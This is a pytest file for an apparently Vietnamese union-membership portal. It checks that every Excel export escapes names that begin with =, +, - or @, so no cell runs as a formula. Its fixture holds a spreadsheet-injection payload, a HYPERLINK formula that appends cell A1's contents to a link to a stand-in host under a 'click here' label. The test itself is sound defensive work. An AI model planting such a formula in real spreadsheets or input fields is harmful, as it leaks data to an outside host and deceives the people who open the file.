"""Every Excel file the portal hands out, with every name in it chosen to look like a formula: no
cell of any sheet is a formula, and no text cell begins with what a spreadsheet would run
(unionportal.lib.xlsx.safe_value writes them with a leading apostrophe)."""

import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from members.models import GrassrootsUnion
from members.register.services import MemberData, member_admit
from organising.services import enterprise_create
from ratings.models import Criterion, CriterionGroup, Level
from ratings.services import rubric_create
from targets.models import Programme, Quota
from training.services import CourseData, course_create
from unionportal.lib.months import Month
from unionportal.lib.xlsx import FORMULA_STARTS

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
MONTH = {"code": "DT", "month": "2021-03"}
RANGE = {"start": "2021-01", "end": "2021-03"}
POSTED = {"members:member_list_export"}  # an export that writes an audit entry is a POST
EXPORTS = {  # url name → URL arguments, query, whether a name begins a cell there (else: only inside one)
    "members:month_template": (MONTH, {}, True),
    "members:month_export": (MONTH, {}, True),
    "members:member_list_template": ({"code": "DT01"}, {}, True),
    "members:member_list_export": ({"code": "DT01"}, {}, True),
    "organising:list_template": ({}, {}, False),  # an empty list
    "organising:list_export": ({}, {}, True),
    "ratings:template": ({"year": 2021, "code": "DT"}, {}, True),
    "reports:progress_export": ({}, {**RANGE, "org": "TN"}, False),
    "reports:dashboard_export": ({}, RANGE, True),
    "reports:federation_detail_export": ({"code": "DT"}, RANGE, True),
    "reports:cdcs_months_export": ({"code": "DT01"}, RANGE, True),
    "training:report_export": ({}, {"year": "2021"}, True),
}


@pytest.fixture
def hostile(province, make_federation, make_cdcs):
    """A federation, a CĐCS, a programme, an enterprise, a member, a course and a rubric whose
    names all begin with =, +, - or @."""
    federation = make_federation("DT", HOSTILE)
    dt01 = make_cdcs(federation, code="DT01", name="+CĐCS " + HOSTILE, opening=50, first_month=Month(2021, 1))
    GrassrootsUnion.objects.filter(pk=dt01.pk).update(employer="-" + HOSTILE)
    programme = Programme.objects.create(
        name="@" + HOSTILE, document_number="=04/CTr", document_date=date(2018, 7, 11), first_year=2018, last_year=2023
    )
    for org in (province, federation):
        Quota.objects.create(programme=programme, organisation=org, year=2021, new_members=10, new_unions=1)
    enterprise_create(
        name=HOSTILE, tax_code="4600123456", address="+" + HOSTILE, federation=federation, sector="private",
        workers=40, on=date(2021, 3, 1), user=None,
    )  # fmt: skip
    member_admit(cdcs=dt01, data=MemberData("=" + "Nguyễn Văn An", date(2021, 3, 5)), user=None)
    course_create(organiser=federation, data=CourseData(date(2021, 3, 2), HOSTILE, 20), user=None)
    rubric = rubric_create(year=2021, user=None)
    for model, start in ((CriterionGroup, "+"), (Criterion, ""), (Level, "@")):  # names are unique in a rubric
        for number, pk in enumerate(model.objects.filter(rubric=rubric).values_list("pk", flat=True)):
            model.objects.filter(pk=pk).update(name=f"{start}{HOSTILE} {number}")


def _cells(content: bytes):
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_of_any_export_can_run_as_a_formula(hostile, client_for, provincial_staff, name):
    kwargs, query, names_begin_cells = EXPORTS[name]
    client = client_for(provincial_staff)
    response = (client.post if name in POSTED else client.get)(reverse(name, kwargs=kwargs), query)
    assert response.status_code == 200
    escaped, unsafe = 0, []
    for title, cell in _cells(response.content):
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)):
            unsafe.append(f"{title}!{cell.coordinate}: {cell.value!r}")
        escaped += isinstance(cell.value, str) and cell.value.startswith("'") and HOSTILE in cell.value
    assert unsafe == []
    assert (escaped > 0) == names_begin_cells  # the hostile names are in the file, escaped
